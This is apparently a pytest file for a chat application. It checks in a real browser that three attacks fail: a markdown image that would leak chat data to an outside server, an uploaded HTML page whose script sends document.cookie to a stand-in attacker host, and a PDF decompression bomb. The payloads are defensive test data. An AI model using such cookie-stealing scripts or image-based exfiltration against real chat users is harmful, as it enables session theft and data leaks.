"""Attacks through the chat's pages, in a real Chromium against the real engine (demo model).

A PDF bomb attached in the chat (app/conversation/pdf_reader.py), an uploaded HTML page opened
from its link (app/web/served_files.py), and a markdown image that would carry the chat
to another server (app/web/page_policy.py).  Each time the chat must keep working.
"""

from __future__ import annotations

import re
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from server.stack.processes import free_port
from tests.support import sample_files as files
from tests.support.settings import start_app
from tests.support.browser import ASSISTANT, open_chat, send
from tests.support.settings import SHORT_REPLY
from tests.support.browser import finished_replies, send_with_files

PDF_TIMEOUT_S = 3


@pytest.fixture(scope="module")
def guarded_app(engine, tmp_path_factory):
    """The chat with short replies and a PDF reader that gives up after 3 s."""
    settings, _ = engine
    yield from start_app(tmp_path_factory.mktemp("guarded"), engine_url=settings.engine_base_url,
                         ignore_eos=True, max_tokens=SHORT_REPLY, pdf_timeout_s=PDF_TIMEOUT_S)


@contextmanager
def listening_server():
    """A server on a free port that records every path it is asked for: the attacker's."""
    asked: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(files.png())

        def log_message(self, *args):
            pass
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()


def csp_violations(page) -> list[str]:
    found: list[str] = []
    page.on("console", lambda m: found.append(m.text) if "Content Security Policy" in m.text else None)
    return found


def test_a_markdown_image_cannot_carry_the_chat_to_another_server(page_factory, guarded_app):
    with listening_server() as (attacker, asked):
        page = open_chat(page_factory, guarded_app)
        violations = csp_violations(page)
        send(page, f"Summarise this. ![x]({attacker}/pixel.png?leak=1)")
        finished_replies(page, 1)  # the chat still streams its reply
        # A typed message is shown as typed: its image stays text.
        assert page.locator(f'img[src^="{attacker}"]').count() == 0
        # A reply's markdown is rendered, so a reply could name one: the policy stops the fetch.
        page.evaluate("url => { const i = document.createElement('img'); i.src = url; "
                      "document.body.appendChild(i); }", f"{attacker}/pixel.png?leak=2")
        page.wait_for_timeout(1000)
        assert asked == [], f"the browser fetched {asked} from the attacker's server"
    assert violations and all("img-src" in v for v in violations), violations


def test_the_chat_and_the_live_page_run_under_the_policy_without_violations(page_factory, guarded_app):
    page = open_chat(page_factory, guarded_app)
    violations = csp_violations(page)
    headers = httpx.get(guarded_app.app_url).headers
    assert "img-src 'self' data: blob:" in headers["content-security-policy"]
    page.locator("#chat-settings-open-modal").click()  # the settings panel
    page.locator("#seed").fill("7")
    page.get_by_role("button", name=re.compile("Confirm")).click()
    send_with_files(page, "Summarise this.", [("notes.md", "text/markdown", b"# Notes\n- one\n")])
    finished_replies(page, 1)
    live = page.context.new_page()
    live_violations = csp_violations(live)
    live.goto(f"{guarded_app.app_url}/live")
    live.wait_for_function("document.querySelector('#chats').dataset.value >= 1", timeout=20_000)
    live.wait_for_timeout(2500)  # a few of its updates
    assert violations == [] and live_violations == []


def test_an_uploaded_html_page_does_not_run_when_its_link_is_opened(page_factory, guarded_app):
    with listening_server() as (attacker, asked):
        page = open_chat(page_factory, guarded_app)
        session = next(c["value"] for c in page.context.cookies() if c["name"] == "X-Chainlit-Session-id")
        # It leaves by navigating, which no connect-src or img-src of the page policy stops.
        html = f"<html><body><script>location.href = '{attacker}/ran?' + document.cookie</script></body></html>"
        uploaded = httpx.post(f"{guarded_app.app_url}/project/file", params={"session_id": session},
                              files={"file": ("page.html", html.encode(), "text/html")})
        link = f"{guarded_app.app_url}/project/file/{uploaded.json()['id']}?session_id={session}"
        victim = page.context.new_page()
        try:
            victim.goto(link)
        except Exception as exc:  # Playwright: "Download is starting"
            assert "Download is starting" in str(exc), exc
        victim.wait_for_timeout(2000)
        assert asked == [], f"the uploaded page's script ran: it asked for {asked}"


def test_a_pdf_bomb_is_refused_by_name_and_the_chat_keeps_serving(page_factory, guarded_app):
    page = open_chat(page_factory, guarded_app)
    send_with_files(page, "Read this.", [("bomb.pdf", "application/pdf", files.inflating_pdf(unpacked_mb=5))])
    slowest = 0.0
    started = time.monotonic()
    while time.monotonic() - started < PDF_TIMEOUT_S:  # the worker answers while it is read
        asked = time.monotonic()
        assert httpx.get(f"{guarded_app.app_url}/project/translations?language=en-US").status_code == 200
        slowest = max(slowest, time.monotonic() - asked)
    error = page.locator(ASSISTANT).filter(has_text="Not sent to the model")
    error.wait_for(timeout=PDF_TIMEOUT_S * 1000 + 10_000)
    assert f"bomb.pdf took longer than {PDF_TIMEOUT_S} s to read" in error.inner_text()
    assert slowest < 2.0, f"the worker took {slowest:.1f} s to answer while reading the PDF"
    send(page, "Still there?")
    assert len(finished_replies(page, 1)) == 1
